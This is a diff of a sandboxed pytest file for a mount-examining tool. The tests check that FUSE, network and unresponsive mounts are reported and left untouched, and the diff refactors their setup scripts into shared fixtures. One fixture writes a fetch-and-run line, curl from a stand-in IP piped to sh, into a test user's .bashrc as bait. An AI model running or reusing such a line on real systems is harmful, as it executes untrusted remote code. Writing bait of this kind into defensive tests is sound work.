@@ -236,7 +236,7 @@ def in_sandbox(tmp_path: Path, script: str) -> Any:
             "-B",
             "-P",
             "-c",
-            INSIDE + textwrap.dedent(script),
+            INSIDE + script,
             json.dumps([TRIAGE, TRACE]),
         ],
         folder=box,
@@ -267,59 +267,75 @@ def test_details_and_json_look_at_nothing_more(tmp_path: Path) -> None:
     assert json.loads(runs[2]["stdout"])["schema"] == "hemostat.triage/1"
 
 
+FAR_HOME = """
+os.makedirs("/home/far")
+open("/etc/passwd", "a").write("far:x:1999:1999::/home/far:/bin/sh\\n")
+"""
+# We are the file system's program ourselves, and never answer: whoever looks, hangs.
+HUNG_FUSE = """
+import ctypes
+device = os.open("/dev/fuse", os.O_RDWR)
+options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
+words = [each.encode() for each in ("hung", "/home/far", "fuse.hung")]
+if ctypes.CDLL(None, use_errno=True).mount(*words, 0, options.encode()) != 0:
+    sys.exit("no FUSE mount: " + os.strerror(ctypes.get_errno()))
+"""
+TMPFS = """
+subprocess.run(["mount", "-t", "tmpfs", "far", "/home/far"], check=True)
+open("/home/far/.bashrc", "w").write("curl -s http://198.51.100.7/a | sh\\n")
+"""
+# The mount table is the kernel's; what it would say of other mounts is put in by hand.
+EXAMINE_WITH = """
+import sys
+from pathlib import Path
+from hemostat.examine.examination import Settings, examine
+from hemostat.examine.knowledge import rulebook_with
+from hemostat.trees.live import LiveTree
+mounts = Path("/proc/self/mountinfo").read_bytes()
+changed = mounts.replace({old!r}, {new!r})
+assert changed != mounts
+told = examine(LiveTree(changed), Settings(rulebook=rulebook_with([])[0]))
+print(*(f"{{path}}: {{why}}" for path, why in told.not_covered), sep="\\n", flush=True)
+"""
+
+
 @pytest.mark.sandbox
 @pytest.mark.requirement("A0.1")
 def test_a_fuse_mount_whose_program_hangs_is_told_and_never_touched(tmp_path: Path) -> None:
-    if "fuse\n" not in Path("/proc/filesystems").read_text("utf-8"):
-        pytest.skip("this kernel has no FUSE")
-    run = in_sandbox(
-        tmp_path,
-        """
-        import ctypes
-        # We are the file system's program ourselves, and never answer: whoever looks, hangs.
-        os.makedirs("/home/far")
-        open("/etc/passwd", "a").write("far:x:1999:1999::/home/far:/bin/sh\\n")
-        device = os.open("/dev/fuse", os.O_RDWR)
-        options = f"fd={device},rootmode=40000,user_id=0,group_id=0,allow_other"
-        words = [each.encode() for each in ("hung", "/home/far", "fuse.hung")]
-        if ctypes.CDLL(None, use_errno=True).mount(*words, 0, options.encode()) != 0:
-            sys.exit("no FUSE mount: " + os.strerror(ctypes.get_errno()))
-        print(json.dumps(watch("--json")))
-        """,
-    )
-    result = json.loads(run["stdout"])
-    reasons = {each["path"]: each["reason"] for each in result["host"]["not_covered"]}
-    assert "fuse.hung" in reasons["/home/far"]
+    needs_fuse()
+    run = in_sandbox(tmp_path, FAR_HOME + HUNG_FUSE + 'print(json.dumps(watch("--json")))')
+    host = json.loads(run["stdout"])["host"]
+    reasons = {each["path"]: each["reason"] for each in host["not_covered"]}
+    assert reasons["/home/far"] == "is on a FUSE file system (fuse.hung): not touched"
     assert touched_below(run["calls"], b"/home/far") == []
 
 
 @pytest.mark.sandbox
 @pytest.mark.requirement("A0.1")
 def test_a_network_mount_is_told_and_never_touched(tmp_path: Path) -> None:
-    script = """
-        import os
-        from pathlib import Path
-        from hemostat.examine.examination import Settings, examine
-        from hemostat.examine.knowledge import rulebook_with
-        from hemostat.trees.live import LiveTree
-        mounts = Path("/proc/self/mountinfo").read_bytes()
-        network = mounts.replace(b" - tmpfs far ", b" - nfs4 far:/home ")
-        assert network != mounts
-        told = examine(LiveTree(network), Settings(rulebook=rulebook_with([])[0]))
-        print(*(f"{path}: {why}" for path, why in told.not_covered), sep="\\n")
-    """
-    run = in_sandbox(
-        tmp_path,
-        f"""
-        os.makedirs("/home/far")
-        open("/etc/passwd", "a").write("far:x:1999:1999::/home/far:/bin/sh\\n")
-        subprocess.run(["mount", "-t", "tmpfs", "far", "/home/far"], check=True)
-        open("/home/far/.bashrc", "w").write("curl -s http://198.51.100.7/a | sh\\n")
-        print(json.dumps(watch(script={textwrap.dedent(script)!r})))
-        """,
-    )
+    script = EXAMINE_WITH.format(old=b" - tmpfs far ", new=b" - nfs4 far:/home ")
+    run = in_sandbox(tmp_path, f"{FAR_HOME}{TMPFS}print(json.dumps(watch(script={script!r})))")
     assert "/home/far: is on a network file system (nfs4): not touched" in run["stdout"], run
     assert touched_below(run["calls"], b"/home/far") == []
+
+
+@pytest.mark.sandbox
+@pytest.mark.requirement("A0.1")
+def test_a_disk_that_never_answers_is_asked_once_and_left_alone(tmp_path: Path) -> None:
+    needs_fuse()
+    # To us it is a local disk, so it is asked whether it answers; and it does not.
+    script = EXAMINE_WITH.format(old=b" - fuse.hung hung ", new=b" - ext4 /dev/sdz ")
+    run = in_sandbox(tmp_path, f"{FAR_HOME}{HUNG_FUSE}print(json.dumps(watch(script={script!r})))")
+    reason = "/home/far: is on a mount that did not answer within 1 s: not touched"
+    assert reason in run["stdout"], run["stderr"][-800:]
+    touched = touched_below(run["calls"], b"/home/far")
+    assert [line.partition("(")[0] for line in touched] == ["statfs"]
+
+
+def needs_fuse() -> None:
+    """Skip by name where no FUSE can be mounted."""
+    if not os.path.exists("/dev/fuse") or "fuse\n" not in Path("/proc/filesystems").read_text():
+        pytest.skip("this kernel has no FUSE")
 
 
 def touched_below(log: str, mount: bytes) -> list[str]:
